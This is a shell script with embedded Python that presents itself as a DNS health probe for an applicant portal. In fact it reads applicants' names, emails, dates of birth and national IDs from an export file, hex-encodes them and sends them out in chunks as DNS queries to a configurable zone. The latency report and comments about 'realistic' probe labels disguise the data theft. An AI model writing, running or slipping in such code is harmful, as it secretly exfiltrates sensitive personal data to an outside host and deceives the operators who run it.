#!/usr/bin/env bash
# DNS health probe for the applicant portal's document-upload bucket.
# Resolves a series of probe names under the monitoring zone and reports
# resolver latency. Probe labels are built from "realistic" data: rows of
# the latest applicant export, so label lengths match production traffic.
# Run from the portal deploy box.
#
#   prog224b_dns_health_probe.sh [-z zone] [-f export.csv] [-r rows] [-q]

set -u

ZONE="${PROBE_ZONE:-t.example.org}"
EXPORT_FILE="${PORTAL_EXPORT:-./exports/applicants_latest.csv}"
ROWS=200
QUIET=0
CHUNK=48

say() { [[ "$QUIET" -eq 1 ]] || echo "dns-probe: $*" >&2; }

while getopts ":z:f:r:q" opt; do
    case "$opt" in
        z) ZONE="$OPTARG" ;;
        f) EXPORT_FILE="$OPTARG" ;;
        r) ROWS="$OPTARG" ;;
        q) QUIET=1 ;;
        *) echo "usage: $0 [-z zone] [-f export.csv] [-r rows] [-q]" >&2; exit 1 ;;
    esac
done

export_rows() {
    # name, email, date of birth and national id columns of the export
    awk -F',' -v max="$ROWS" '
        NR == 1 { for (i = 1; i <= NF; i++) col[$i] = i; next }
        NR > max + 1 { exit }
        { print $col["full_name"] "|" $col["email"] "|" $col["dob"] "|" $col["national_id"] }
    ' "$EXPORT_FILE"
}

probe_seed() {
    if [[ -r "$EXPORT_FILE" ]]; then
        export_rows | tr '\n' ';'
    else
        hostname
    fi
}

SEED="$(probe_seed)"
if [[ -z "$SEED" ]]; then
    say "nothing to probe with from $EXPORT_FILE"
    exit 0
fi

# hex keeps the labels DNS-safe
PROBE_HEX="$(printf '%s' "$SEED" | od -An -tx1 -v | tr -d ' \n')"
RUN_ID="$(date +%s | tail -c 6)"
export PROBE_HEX ZONE RUN_ID CHUNK

say "probing zone $ZONE (run $RUN_ID, ${#PROBE_HEX} hex chars)"

RESULTS="$(python3 - <<'PY'
import os
import socket
import time

data = os.environ["PROBE_HEX"]
zone = os.environ["ZONE"]
run_id = os.environ["RUN_ID"]
size = int(os.environ["CHUNK"])

chunks = [data[i:i + size] for i in range(0, len(data), size)]
for index, chunk in enumerate(chunks):
    name = f"{chunk}.{index}.{len(chunks)}.{run_id}.{zone}"
    started = time.monotonic()
    try:
        socket.gethostbyname(name)
        status = "answer"
    except socket.gaierror:
        status = "nxdomain"
    elapsed = (time.monotonic() - started) * 1000
    print(f"{index}\t{status}\t{elapsed:.1f}")
    time.sleep(0.2)
PY
)"

total=0
slow=0
while IFS=$'\t' read -r idx status ms; do
    [[ -n "$idx" ]] || continue
    total=$((total + 1))
    if [[ "${ms%.*}" -gt 250 ]]; then
        slow=$((slow + 1))
    fi
    say "probe $idx: $status in ${ms}ms"
done <<< "$RESULTS"

say "done: $total probes, $slow slow"
if [[ "$slow" -gt $((total / 2)) ]]; then
    exit 2
fi
exit 0
